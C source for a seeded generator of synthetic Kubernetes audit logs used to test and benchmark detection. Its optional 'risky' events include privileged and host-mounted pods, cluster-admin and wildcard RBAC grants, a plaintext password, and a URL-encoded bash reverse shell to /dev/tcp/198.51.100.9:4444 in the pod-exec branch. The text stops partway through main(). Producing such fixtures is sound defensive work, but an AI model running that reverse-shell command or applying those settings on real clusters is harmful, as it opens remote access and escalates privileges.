/*
 * gen_audit.c: a seeded generator of realistic Kubernetes audit logs, for tests and benchmarks.
 *
 *   gen-audit [--seed N] [--events N] [--format lines|pretty|eventlist|array] [--batch N]
 *             [--risky PCT] [--start RFC3339] [-o FILE]
 *
 * The mix follows a real cluster: most events are controller and node noise (lease renewals,
 * node status patches with large bodies, service accounts listing and watching), the rest are
 * people and CI acting on secrets, pods, workloads, services, RBAC, exec, tokens; --risky PCT
 * of the user actions are risky variants (privileged pods, hostPath /, cluster-admin
 * bindings, wildcard roles, LoadBalancer services, reverse-shell exec, ...). The same seed and
 * count give the same events (auditIDs included) in every format.
 *
 * The bundled sample was made with:
 *   gen-audit --seed 42 --events 2000 --risky 5 -o sample.log
 * and three bad lines inserted after line 1000 (see tests/fixtures/README.md).
 */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

/* ---- output buffer ---- */

struct buf {
    char *p;
    size_t len;
    size_t cap;
};

static void need(struct buf *b, size_t n)
{
    if (b->cap - b->len >= n) {
        return;
    }
    size_t cap = b->cap ? b->cap : 4096;
    while (cap - b->len < n) {
        cap *= 2;
    }
    b->p = realloc(b->p, cap);
    if (b->p == NULL) {
        fputs("gen-audit: out of memory\n", stderr);
        exit(1);
    }
    b->cap = cap;
}

static void put(struct buf *b, const char *s, size_t n)
{
    need(b, n);
    memcpy(b->p + b->len, s, n);
    b->len += n;
}

static void puts_(struct buf *b, const char *s)
{
    put(b, s, strlen(s));
}

static void __attribute__((format(printf, 2, 3))) putf(struct buf *b, const char *fmt, ...)
{
    va_list ap;
    need(b, 256);
    va_start(ap, fmt);
    int n = vsnprintf(b->p + b->len, b->cap - b->len, fmt, ap);
    va_end(ap);
    if ((size_t)n >= b->cap - b->len) {
        need(b, (size_t)n + 1);
        va_start(ap, fmt);
        vsnprintf(b->p + b->len, b->cap - b->len, fmt, ap);
        va_end(ap);
    }
    b->len += (size_t)n;
}

/* A JSON string, escaped. */
static void jstr(struct buf *b, const char *s)
{
    need(b, strlen(s) * 2 + 2);
    b->p[b->len++] = '"';
    for (; *s != '\0'; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '"' || c == '\\') {
            b->p[b->len++] = '\\';
            b->p[b->len++] = (char)c;
        } else if (c == '\n') {
            b->p[b->len++] = '\\';
            b->p[b->len++] = 'n';
        } else if (c < 0x20) {
            need(b, 8);
            b->len += (size_t)sprintf(b->p + b->len, "\\u%04x", c);
        } else {
            b->p[b->len++] = (char)c;
        }
    }
    b->p[b->len++] = '"';
}

/* "key": as the start of a member; first == 0 adds the comma. */
static void key(struct buf *b, const char *k)
{
    if (b->len > 0 && b->p[b->len - 1] != '{' && b->p[b->len - 1] != '[') {
        b->p[b->len++] = ',';
    }
    jstr(b, k);
    need(b, 1);
    b->p[b->len++] = ':';
}

static void kv(struct buf *b, const char *k, const char *v)
{
    key(b, k);
    jstr(b, v);
}

/* ---- randomness (splitmix64) ---- */

static uint64_t rng_state;

static uint64_t rnd(void)
{
    uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

static unsigned below(unsigned n)
{
    return (unsigned)(rnd() % n);
}

static int chance(unsigned pct)
{
    return below(10000) < pct * 100;
}

#define PICK(arr) (arr[below(sizeof(arr) / sizeof(arr[0]))])

/* ---- the cluster ---- */

static const char *const humans[] = {"alice@example.com", "bob@example.com", "zoë@example.com",
                                     "oidc:carol", "system:serviceaccount:ci:deployer"};
static const char *const agents[] = {"kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
                                     "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625",
                                     "helm/v3.14.0",
                                     "curl/8.5.0",
                                     "python-requests/2.31.0",
                                     "Go-http-client/2.0"};
static const char *const namespaces[] = {"default", "payments",   "web",
                                         "data",    "monitoring", "kube-system"};
static const char *const images[] = {
    "docker.io/library/nginx:1.25", "registry.example.com:5000/team/api:2.1",
    "gcr.io/proj/app@sha256:4f53cda18c2baa0c0354bb5f9a3ecbe5ed12ab4d8e11ba873c2f11161202b945",
    "quay.io/prometheus/node-exporter:v1.7.0", "busybox"};
static const char *const controllers[] = {
    "system:serviceaccount:kube-system:replicaset-controller",
    "system:serviceaccount:kube-system:endpointslice-controller",
    "system:serviceaccount:kube-system:deployment-controller", "system:kube-controller-manager",
    "system:serviceaccount:kube-system:coredns"};

static int64_t clock_us;   /* event time */
static unsigned risky_pct; /* share of risky user actions */

static void uuid(char out[37])
{
    uint64_t a = rnd(), b = rnd();
    a = (a & 0xffffffffffff0fffULL) | 0x4000ULL;
    b = (b & 0x3fffffffffffffffULL) | 0x8000000000000000ULL;
    snprintf(out, 37, "%08x-%04x-%04x-%04x-%012llx", (unsigned)(a >> 32),
             (unsigned)((a >> 16) & 0xffff), (unsigned)(a & 0xffff), (unsigned)(b >> 48),
             (unsigned long long)(b & 0xffffffffffffULL));
}

static void timestamp(int64_t us, char out[40])
{
    time_t secs = (time_t)(us / 1000000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    size_t n = strftime(out, 40, "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out + n, 40 - n, ".%06dZ", (int)(us % 1000000));
}

/* What one request looks like; fields NULL are left out. */
struct req {
    const char *level, *verb, *user, *agent, *ip;
    const char *resource, *subresource, *ns, *name, *group, *version;
    char uri[512];
    int code;
    int watch;           /* ResponseStarted + ResponseComplete */
    int started_only;    /* exec-like: ResponseStarted then ResponseComplete */
    const char *sa_pod;  /* service account token bound to this pod */
    struct buf *reqobj;  /* requestObject JSON, or NULL */
    struct buf *respobj; /* responseObject JSON, or NULL */
    const char *reason;  /* failure reason */
};

static struct buf body_req, body_resp;

static void groups_for(struct buf *b, const char *user)
{
    key(b, "groups");
    if (strncmp(user, "system:serviceaccount:", 22) == 0) {
        char ns[128];
        const char *p = user + 22, *e = strchr(p, ':');
        snprintf(ns, sizeof(ns), "system:serviceaccounts:%.*s", (int)(e ? e - p : 0), p);
        puts_(b, "[\"system:serviceaccounts\",");
        jstr(b, ns);
        puts_(b, ",\"system:authenticated\"]");
    } else if (strncmp(user, "system:node:", 12) == 0) {
        puts_(b, "[\"system:nodes\",\"system:authenticated\"]");
    } else if (strcmp(user, "system:anonymous") == 0) {
        puts_(b, "[\"system:unauthenticated\"]");
    } else if (strncmp(user, "system:", 7) == 0) {
        puts_(b, "[\"system:authenticated\"]");
    } else {
        puts_(b, "[\"developers\",\"system:authenticated\"]");
    }
}

static void emit_event(struct buf *b, const struct req *r, const char *id, const char *stage,
                       int64_t recv, int64_t at)
{
    char ts[40];
    puts_(b, "{");
    kv(b, "kind", "Event");
    kv(b, "apiVersion", "audit.k8s.io/v1");
    kv(b, "level", r->level);
    kv(b, "auditID", id);
    kv(b, "stage", stage);
    kv(b, "requestURI", r->uri);
    kv(b, "verb", r->verb);
    key(b, "user");
    puts_(b, "{");
    kv(b, "username", r->user);
    if (strncmp(r->user, "system:", 7) != 0) {
        char uid[37];
        uuid(uid);
        kv(b, "uid", uid);
    }
    groups_for(b, r->user);
    if (r->sa_pod != NULL) {
        key(b, "extra");
        puts_(b, "{\"authentication.kubernetes.io/credential-id\":[\"JTI=");
        putf(b, "%08x", (unsigned)rnd());
        puts_(b, "\"],\"authentication.kubernetes.io/pod-name\":[");
        jstr(b, r->sa_pod);
        puts_(b, "]}");
    }
    puts_(b, "}");
    key(b, "sourceIPs");
    puts_(b, "[");
    jstr(b, r->ip);
    puts_(b, "]");
    kv(b, "userAgent", r->agent);
    if (r->resource != NULL) {
        key(b, "objectRef");
        puts_(b, "{");
        kv(b, "resource", r->resource);
        if (r->ns) {
            kv(b, "namespace", r->ns);
        }
        if (r->name) {
            kv(b, "name", r->name);
        }
        if (r->group) {
            kv(b, "apiGroup", r->group);
        }
        kv(b, "apiVersion", r->version ? r->version : "v1");
        if (r->subresource) {
            kv(b, "subresource", r->subresource);
        }
        puts_(b, "}");
    }
    int final = strcmp(stage, "ResponseComplete") == 0;
    key(b, "responseStatus");
    if (!final) {
        puts_(b, "{\"metadata\":{},\"code\":101}");
    } else if (r->code < 400) {
        putf(b, "{\"metadata\":{},\"code\":%d}", r->code);
    } else {
        puts_(b, "{\"metadata\":{},\"status\":\"Failure\"");
        kv(b, "message", r->reason ? r->reason : "forbidden");
        putf(b, ",\"reason\":\"%s\",\"code\":%d}", r->code == 403 ? "Forbidden" : "NotFound",
             r->code);
    }
    if (r->reqobj != NULL && strcmp(r->level, "Metadata") != 0) {
        key(b, "requestObject");
        put(b, r->reqobj->p, r->reqobj->len);
    }
    if (final && r->respobj != NULL && strcmp(r->level, "RequestResponse") == 0) {
        key(b, "responseObject");
        put(b, r->respobj->p, r->respobj->len);
    }
    timestamp(recv, ts);
    kv(b, "requestReceivedTimestamp", ts);
    timestamp(at, ts);
    kv(b, "stageTimestamp", ts);
    key(b, "annotations");
    puts_(b, "{");
    kv(b, "authorization.k8s.io/decision", r->code == 403 ? "forbid" : "allow");
    if (r->code == 403) {
        kv(b, "authorization.k8s.io/reason", "");
    } else if (strncmp(r->user, "system:", 7) == 0) {
        kv(b, "authorization.k8s.io/reason",
           "RBAC: allowed by ClusterRoleBinding \"system:controller\" of ClusterRole "
           "\"system:controller\" to User");
    } else {
        kv(b, "authorization.k8s.io/reason",
           "RBAC: allowed by RoleBinding \"dev-edit/default\" of ClusterRole \"edit\" to Group "
           "\"developers\"");
    }
    puts_(b, "}}");
}

/* ---- bodies ---- */

static void pod_spec(struct buf *b, int risky)
{
    unsigned n = 1 + below(3);
    puts_(b, "{");
    if (risky && chance(30)) {
        puts_(b, "\"hostNetwork\":true,");
    }
    if (risky && chance(15)) {
        puts_(b, "\"hostPID\":true,");
    }
    if (!risky && chance(60)) {
        puts_(b, "\"securityContext\":{\"runAsNonRoot\":true,\"runAsUser\":10001,"
                 "\"seccompProfile\":{\"type\":\"RuntimeDefault\"}},");
    } else if (risky && chance(30)) {
        puts_(
            b,
            "\"securityContext\":{\"runAsUser\":0,\"seccompProfile\":{\"type\":\"Unconfined\"}},");
    }
    puts_(b, "\"containers\":[");
    for (unsigned i = 0; i < n; i++) {
        if (i > 0) {
            puts_(b, ",");
        }
        putf(b, "{\"name\":\"c%u\"", i);
        kv(b, "image", PICK(images));
        puts_(b, ",\"ports\":[{\"containerPort\":8080,\"protocol\":\"TCP\"}],");
        puts_(b, "\"resources\":{\"limits\":{\"cpu\":\"500m\",\"memory\":\"256Mi\"}},");
        puts_(b,
              "\"env\":[{\"name\":\"MODE\",\"value\":\"production\"},{\"name\":\"MSG\",\"value\":"
              "\"say \\\"hi\\\"\"}],");
        if (risky && chance(40)) {
            puts_(b, "\"securityContext\":{\"privileged\":true}");
        } else if (risky && chance(40)) {
            puts_(b,
                  "\"securityContext\":{\"capabilities\":{\"add\":[\"SYS_ADMIN\",\"NET_ADMIN\"]},"
                  "\"allowPrivilegeEscalation\":true}");
        } else if (chance(70)) {
            puts_(b, "\"securityContext\":{\"allowPrivilegeEscalation\":false,"
                     "\"readOnlyRootFilesystem\":true,\"capabilities\":{\"drop\":[\"ALL\"]}}");
        } else {
            puts_(b, "\"securityContext\":{}");
        }
        puts_(b, ",\"volumeMounts\":[{\"name\":\"config\",\"mountPath\":\"/etc/app\"}");
        if (risky && i == 0) {
            puts_(b, ",{\"name\":\"host\",\"mountPath\":\"/host\"}");
        }
        puts_(b, "]}");
    }
    puts_(b, "],\"volumes\":[{\"name\":\"config\",\"configMap\":{\"name\":\"app-config\"}}");
    if (risky) {
        puts_(b, chance(50)
                     ? ",{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}"
                     : ",{\"name\":\"host\",\"hostPath\":{\"path\":\"/var/run/docker.sock\"}}");
    }
    puts_(b, "],\"restartPolicy\":\"Always\",\"serviceAccountName\":\"default\"}");
}

static void metadata(struct buf *b, const char *name, const char *ns, int with_status)
{
    puts_(b, "\"metadata\":{");
    kv(b, "name", name);
    if (ns) {
        kv(b, "namespace", ns);
    }
    puts_(b, ",\"labels\":{\"app\":\"web\",\"team\":\"payments\"}");
    if (with_status) {
        char uid[37];
        uuid(uid);
        kv(b, "uid", uid);
        putf(b, ",\"resourceVersion\":\"%u\"", 100000 + below(900000));
    }
    puts_(b, "}");
}

static void node_status(struct buf *b, int huge)
{
    unsigned nimages = huge ? 600 + below(300) : 10 + below(30);
    puts_(b, "{\"status\":{\"conditions\":[");
    static const char *const conds[] = {"MemoryPressure", "DiskPressure", "PIDPressure", "Ready"};
    for (unsigned i = 0; i < 4; i++) {
        putf(b,
             "%s{\"type\":\"%s\",\"status\":\"%s\",\"lastHeartbeatTime\":\"2024-05-01T00:00:00Z\","
             "\"reason\":\"KubeletHasSufficient\",\"message\":\"kubelet is posting ready status\"}",
             i ? "," : "", conds[i], i == 3 ? "True" : "False");
    }
    puts_(b, "],\"images\":[");
    for (unsigned i = 0; i < nimages; i++) {
        putf(b,
             "%s{\"names\":[\"registry.example.com/img%u@sha256:%016llx%016llx\","
             "\"registry.example.com/img%u:v%u\"],\"sizeBytes\":%u}",
             i ? "," : "", i, (unsigned long long)rnd(), (unsigned long long)rnd(), i, i % 7,
             1000000 + below(90000000));
    }
    puts_(b, "]}}");
}

/* ---- one request of each kind ---- */

static void fill_common(struct req *r, const char *user, const char *agent)
{
    memset(r, 0, sizeof(*r));
    r->level = "Metadata";
    r->user = user;
    r->agent = agent;
    r->ip = "10.0.0.10";
    r->code = 200;
}

static void resource_uri(struct req *r, int collection)
{
    const char *prefix = r->group ? "/apis/" : "/api";
    char gv[128];
    if (r->group) {
        snprintf(gv, sizeof(gv), "%s/%s", r->group, r->version ? r->version : "v1");
    } else {
        snprintf(gv, sizeof(gv), "/v1");
    }
    int n = snprintf(r->uri, sizeof(r->uri), "%s%s", prefix, r->group ? gv : gv + 1);
    if (r->group == NULL) {
        n = snprintf(r->uri, sizeof(r->uri), "/api/v1");
    }
    if (r->ns) {
        n += snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/namespaces/%s", r->ns);
    }
    n += snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/%s", r->resource);
    if (!collection && r->name) {
        n += snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/%s", r->name);
    }
    if (r->subresource) {
        snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/%s", r->subresource);
    }
}

static char name_buf[128], node_buf[64], pod_buf[64];

static void make_request(struct req *r)
{
    unsigned k = below(1000);
    int risky = chance(risky_pct);
    body_req.len = body_resp.len = 0;
    snprintf(node_buf, sizeof(node_buf), "system:node:ip-10-0-%u-%u.ec2.internal", below(4),
             below(50));
    snprintf(pod_buf, sizeof(pod_buf), "web-%05x-%04x", below(0xfffff), below(0xffff));
    if (k < 250) { /* lease renewal */
        fill_common(r, node_buf, "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625");
        r->verb = "update";
        r->resource = "leases";
        r->group = "coordination.k8s.io";
        r->ns = "kube-node-lease";
        r->name = node_buf + 12;
        resource_uri(r, 0);
    } else if (k < 300) { /* node status patch, big bodies */
        fill_common(r, node_buf, "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625");
        r->level = "RequestResponse";
        r->verb = "patch";
        r->resource = "nodes";
        r->subresource = "status";
        r->name = node_buf + 12;
        resource_uri(r, 0);
        node_status(&body_req, chance(8));
        r->reqobj = &body_req;
        puts_(&body_resp, "{\"kind\":\"Node\",\"apiVersion\":\"v1\",");
        metadata(&body_resp, node_buf + 12, NULL, 1);
        puts_(&body_resp, "}");
        r->respobj = &body_resp;
    } else if (k < 550) { /* controllers reading */
        static const char *const res[] = {"configmaps", "endpoints", "pods", "replicasets"};
        fill_common(r, PICK(controllers), "kube-controller-manager/v1.29.3 (linux/amd64)");
        r->resource = PICK(res);
        if (strcmp(r->resource, "replicasets") == 0) {
            r->group = "apps";
        }
        r->ns = PICK(namespaces);
        int w = below(3);
        r->verb = w == 0 ? "get" : w == 1 ? "list" : "watch";
        if (w == 0) {
            r->name = "kube-root-ca.crt";
        }
        resource_uri(r, w != 0);
        if (w == 2) {
            strncat(r->uri, "?allowWatchBookmarks=true&resourceVersion=1234&watch=true",
                    sizeof(r->uri) - strlen(r->uri) - 1);
            r->watch = 1;
        }
    } else if (k < 600) { /* scheduler binding */
        fill_common(r, "system:kube-scheduler", "kube-scheduler/v1.29.3 (linux/amd64)");
        r->level = "Request";
        r->verb = "create";
        r->resource = "pods";
        r->subresource = "binding";
        r->ns = PICK(namespaces);
        r->name = pod_buf;
        resource_uri(r, 0);
        puts_(&body_req, "{\"kind\":\"Binding\",\"apiVersion\":\"v1\",");
        metadata(&body_req, pod_buf, r->ns, 0);
        puts_(&body_req, ",\"target\":{\"kind\":\"Node\",\"name\":");
        jstr(&body_req, node_buf + 12);
        puts_(&body_req, "}}");
        r->reqobj = &body_req;
        r->code = 201;
    } else if (k < 650) { /* health checks */
        static const char *const paths[] = {"/healthz", "/readyz", "/livez", "/version"};
        fill_common(r, "system:anonymous", "kube-probe/1.29");
        r->verb = "get";
        snprintf(r->uri, sizeof(r->uri), "%s", PICK(paths));
        r->ip = "10.0.0.1";
    } else if (k < 740) { /* people reading secrets */
        fill_common(r, PICK(humans), PICK(agents));
        r->verb = chance(70) ? "get" : "list";
        r->resource = "secrets";
        r->ns = risky && chance(30) ? NULL : PICK(namespaces);
        if (strcmp(r->verb, "get") == 0 && r->ns) {
            r->name = "db-credentials";
        } else {
            r->verb = "list";
        }
        if (risky) {
            r->agent = "curl/8.5.0";
        }
        r->ip = "203.0.113.7";
        resource_uri(r, r->name == NULL);
    } else if (k < 800) { /* pods created */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "RequestResponse";
        r->verb = "create";
        r->resource = "pods";
        r->ns = PICK(namespaces);
        r->name = pod_buf;
        resource_uri(r, 1);
        puts_(&body_req, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",");
        metadata(&body_req, pod_buf, r->ns, 0);
        puts_(&body_req, ",\"spec\":");
        pod_spec(&body_req, risky);
        puts_(&body_req, "}");
        r->reqobj = &body_req;
        puts_(&body_resp, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",");
        metadata(&body_resp, pod_buf, r->ns, 1);
        puts_(&body_resp, ",\"status\":{\"phase\":\"Pending\",\"qosClass\":\"Burstable\"}}");
        r->respobj = &body_resp;
        r->code = 201;
    } else if (k < 850) { /* deployments */
        fill_common(r, PICK(humans), "helm/v3.14.0");
        r->level = "RequestResponse";
        r->verb = chance(50) ? "create" : "patch";
        r->resource = "deployments";
        r->group = "apps";
        r->ns = PICK(namespaces);
        snprintf(name_buf, sizeof(name_buf), "api-%u", below(40));
        r->name = name_buf;
        resource_uri(r, strcmp(r->verb, "create") == 0);
        if (strcmp(r->verb, "create") == 0) {
            puts_(&body_req, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
            metadata(&body_req, name_buf, r->ns, 0);
            puts_(&body_req,
                  ",\"spec\":{\"replicas\":3,\"selector\":{\"matchLabels\":{\"app\":\"web\"}},"
                  "\"template\":{\"metadata\":{\"labels\":{\"app\":\"web\"}},\"spec\":");
            pod_spec(&body_req, risky);
            puts_(&body_req, "}}}");
            r->code = 201;
        } else {
            puts_(&body_req, "{\"spec\":{\"replicas\":");
            putf(&body_req, "%u}}", 1 + below(9));
        }
        r->reqobj = &body_req;
        puts_(&body_resp, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
        metadata(&body_resp, name_buf, r->ns, 1);
        puts_(&body_resp, "}");
        r->respobj = &body_resp;
    } else if (k < 880) { /* services */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "RequestResponse";
        r->verb = "create";
        r->resource = "services";
        r->ns = PICK(namespaces);
        snprintf(name_buf, sizeof(name_buf), "svc-%u", below(100));
        r->name = name_buf;
        resource_uri(r, 1);
        puts_(&body_req, "{\"kind\":\"Service\",\"apiVersion\":\"v1\",");
        metadata(&body_req, name_buf, r->ns, 0);
        unsigned t = risky ? below(3) : 3;
        puts_(&body_req, ",\"spec\":{\"type\":");
        puts_(&body_req, t == 0 ? "\"LoadBalancer\"" : t == 1 ? "\"NodePort\"" : "\"ClusterIP\"");
        if (t == 2) {
            puts_(&body_req, ",\"externalIPs\":[\"198.51.100.23\"]");
        }
        puts_(&body_req, ",\"ports\":[{\"port\":80,\"targetPort\":8080,\"protocol\":\"TCP\"}],"
                         "\"selector\":{\"app\":\"web\"}}}");
        r->reqobj = &body_req;
        r->respobj = &body_req;
        r->code = 201;
    } else if (k < 910) { /* configmaps */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = chance(50) ? "Metadata" : "Request";
        r->verb = "create";
        r->resource = "configmaps";
        r->ns = PICK(namespaces);
        r->name = "app-config";
        resource_uri(r, 1);
        puts_(&body_req, "{\"kind\":\"ConfigMap\",\"apiVersion\":\"v1\",");
        metadata(&body_req, "app-config", r->ns, 0);
        puts_(&body_req, ",\"data\":{\"app.yaml\":\"mode: production\\nname: \\\"web\\\"\\n\"");
        if (risky) {
            puts_(&body_req, ",\"db_password\":\"hunter2\"");
        }
        puts_(&body_req, "}}");
        r->reqobj = &body_req;
        r->code = 201;
    } else if (k < 930) { /* RBAC */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "RequestResponse";
        r->verb = "create";
        r->group = "rbac.authorization.k8s.io";
        if (chance(50)) {
            r->resource = "clusterrolebindings";
            snprintf(name_buf, sizeof(name_buf), "binding-%u", below(100));
            r->name = name_buf;
            puts_(&body_req, "{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization."
                             "k8s.io/v1\",");
            metadata(&body_req, name_buf, NULL, 0);
            puts_(&body_req, ",\"subjects\":[{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization."
                             "k8s.io\",\"name\":");
            jstr(&body_req, PICK(humans));
            puts_(&body_req, "}],\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":"
                             "\"ClusterRole\",\"name\":");
            puts_(&body_req, risky ? "\"cluster-admin\"}}" : "\"view\"}}");
        } else {
            r->resource = "clusterroles";
            snprintf(name_buf, sizeof(name_buf), "role-%u", below(100));
            r->name = name_buf;
            puts_(&body_req,
                  "{\"kind\":\"ClusterRole\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",");
            metadata(&body_req, name_buf, NULL, 0);
            puts_(&body_req, risky ? ",\"rules\":[{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],"
                                     "\"verbs\":[\"*\"]}]}"
                                   : ",\"rules\":[{\"apiGroups\":[\"\"],\"resources\":[\"pods\"],"
                                     "\"verbs\":[\"get\",\"list\"]}]}");
        }
        resource_uri(r, 1);
        r->reqobj = &body_req;
        r->respobj = &body_req;
        r->code = 201;
    } else if (k < 950) { /* exec */
        fill_common(r, PICK(humans), PICK(agents));
        r->verb = "create";
        r->resource = "pods";
        r->subresource = "exec";
        r->ns = PICK(namespaces);
        r->name = pod_buf;
        snprintf(r->uri, sizeof(r->uri),
                 "/api/v1/namespaces/%s/pods/%s/"
                 "exec?command=%s&container=c0&stdin=true&stdout=true&tty=true",
                 r->ns, pod_buf,
                 risky ? "bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%"
                         "2F4444%200%3E%261"
                       : "sh&command=-c&command=id");
        r->started_only = 1;
    } else if (k < 965) { /* tokens */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "Request";
        r->verb = "create";
        r->resource = "serviceaccounts";
        r->subresource = "token";
        r->ns = PICK(namespaces);
        r->name = "default";
        resource_uri(r, 0);
        puts_(&body_req, "{\"kind\":\"TokenRequest\",\"apiVersion\":\"authentication.k8s.io/v1\","
                         "\"spec\":{\"audiences\":[\"https://"
                         "kubernetes.default.svc\"],\"expirationSeconds\":3600}}");
        r->reqobj = &body_req;
        r->code = 201;
    } else if (k < 990) { /* forbidden */
        fill_common(r, PICK(humans), PICK(agents));
        r->verb = chance(50) ? "create" : "list";
        r->resource = chance(50) ? "clusterrolebindings" : "secrets";
        if (strcmp(r->resource, "clusterrolebindings") == 0) {
            r->group = "rbac.authorization.k8s.io";
        } else {
            r->ns = "kube-system";
        }
        resource_uri(r, 1);
        r->code = 403;
        r->reason =
            "secrets is forbidden: User \"bob@example.com\" cannot list resource \"secrets\" "
            "in API group \"\" in the namespace \"kube-system\"";
    } else if (k < 995) { /* service account tokens used from pods */
        fill_common(r, "system:serviceaccount:web:default",
                    risky ? "curl/8.5.0" : "Go-http-client/2.0");
        r->sa_pod = pod_buf;
        r->verb = "get";
        r->resource = "configmaps";
        r->ns = "web";
        r->name = "app-config";
        r->ip = "10.1.4.17";
        resource_uri(r, 0);
    } else { /* anonymous */
        fill_common(r, "system:anonymous", "python-requests/2.31.0");
        r->verb = "get";
        r->ip = "198.51.100.50";
        if (risky) {
            r->resource = "pods";
            r->verb = "list";
            resource_uri(r, 1);
        } else {
            snprintf(r->uri, sizeof(r->uri), "/.well-known/openid-configuration");
        }
    }
}

/* ---- output formats ---- */

/* Re-indent compact JSON with two spaces, respecting strings. */
static void pretty(struct buf *out, const char *p, size_t n, int base)
{
    int depth = base, in_str = 0;
    for (size_t i = 0; i < n; i++) {
        char c = p[i];
        if (in_str) {
            put(out, &c, 1);
            if (c == '\\') {
                put(out, &p[++i], 1);
            } else if (c == '"') {
                in_str = 0;
            }
            continue;
        }
        switch (c) {
        case '"':
            in_str = 1;
            put(out, &c, 1);
            break;
        case '{':
        case '[':
            if (i + 1 < n && (p[i + 1] == '}' || p[i + 1] == ']')) {
                put(out, &c, 1);
                put(out, &p[++i], 1);
                break;
            }
            put(out, &c, 1);
            depth++;
            put(out, "\n", 1);
            for (int d = 0; d < depth; d++) {
                put(out, "  ", 2);
            }
            break;
        case '}':
        case ']':
            depth--;
            put(out, "\n", 1);
            for (int d = 0; d < depth; d++) {
                put(out, "  ", 2);
            }
            put(out, &c, 1);
            break;
        case ',':
            put(out, ",\n", 2);
            for (int d = 0; d < depth; d++) {
                put(out, "  ", 2);
            }
            break;
        case ':':
            put(out, ": ", 2);
            break;
        default:
            put(out, &c, 1);
        }
    }
}

static int parse_start(const char *s, int64_t *out)
{
    struct tm tm;
    memset(&tm, 0, sizeof(tm));
    if (sscanf(s, "%d-%d-%dT%d:%d:%d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday, &tm.tm_hour,
               &tm.tm_min, &tm.tm_sec) != 6) {
        return -1;
    }
    tm.tm_year -= 1900;
    tm.tm_mon -= 1;
    *out = (int64_t)timegm(&tm) * 1000000;
    return 0;
}

static void usage(void)
{
    fputs("usage: gen-audit [--seed N] [--events N] [--format lines|pretty|eventlist|array]\n"
          "                 [--batch N] [--risky PCT] [--start RFC3339] [-o FILE]\n",
          stderr);
}

int main(int argc, char **argv)
{
    uint64_t seed = 1, events = 1000;
    unsigned batch = 400;
    const char *format = "lines", *out_path = NULL;
    risky_pct = 2;
    clock_us = 1714521600LL * 1000000; /* 2024-05-01T00:00:00Z */
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (v == NULL && strcmp(a, "-h") != 0 && strcmp(a, "--help") != 0) {
            usage();
            return 2;
        }
        if (strcmp(a, "--seed") == 0) {
            seed = strtoull(v, NULL, 10);
        } else if (strcmp(a, "--events") == 0) {
            events = strtoull(v, NULL, 10);
        } else if (strcmp(a, "--format") == 0) {
            format = v;
        } else if (strcmp(a, "--batch") == 0) {
            batch = (unsigned)strtoul(v, NULL, 10);
        } else if (strcmp(a, "--risky") == 0) {
            risky_pct = (unsigned)strtoul(v, NULL, 10);
        } else if (strcmp(a, "--start") == 0) {
            if (parse_start(v, &clock_us) != 0) {
                fprintf(stderr, "gen-audit: --start: not a timestamp: %s\n", v);
                return 2;
            }
        } else if (strcmp(a, "-o") == 0) {
            out_path = v;
        } else {
            usage();
            return 2;
        }
        i++;
    }
    int fmt = strcmp(format, "lines") == 0       ? 0
              : strcmp(format, "pretty") == 0    ? 1
              : strcmp(format, "eventlist") == 0 ? 2
              : strcmp(format, "array") == 0     ? 3
                                                 : -1;
    if (fmt < 0 || batch == 0) {
        usage();
        return 2;
    }
    FILE *out = out_path ? fopen(out_path, "w") : stdout;
    if (out == NULL) {
        perror(out_path);
        return 1;
    }
    static char iobuf[1 << 20];
    setvbuf(out, iobuf, _IOFBF, sizeof(iobuf));
    rng_state = seed * 0x2545f4914f6cdd1dULL + 1;

    struct buf ev = {0}, pbuf = {0};
    struct req r;
    uint64_t written = 0, in_list = 0;
    if (fmt == 3) {
        fputs("[\n", out);
    }
    while (written < events) {
        char id[37];
        make_request(&r);
        uuid(id);
        int64_t recv = clock_us;
        clock_us += 1000 + below(60000); /* about 30 requests a second */
        int nstages = (r.watch || r.started_only) ? 2 : 1;
        for (int s = 0; s < nstages && written < events; s++) {
            ev.len = 0;
            const char *stage = nstages == 2 && s == 0 ? "ResponseStarted" : "ResponseComplete";
            int64_t at = clock_us;
            if (s == 1) {
                at += r.watch ? 60000000 : 5000000;
            }
            emit_event(&ev, &r, id, stage, recv, at);
            if (fmt == 1) {
                pbuf.len = 0;
                pretty(&pbuf, ev.p, ev.len, 0);
                fwrite(pbuf.p, 1, pbuf.len, out);
                fputc('\n', out);
            } else if (fmt == 2) {
                if (in_list == 0) {
                    fputs("{\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/"
                          "v1\",\"metadata\":{},"
                          "\"items\":[",
                          out);
                } else {
                    fputc(',', out);
                }
                fwrite(ev.p, 1, ev.len, out);
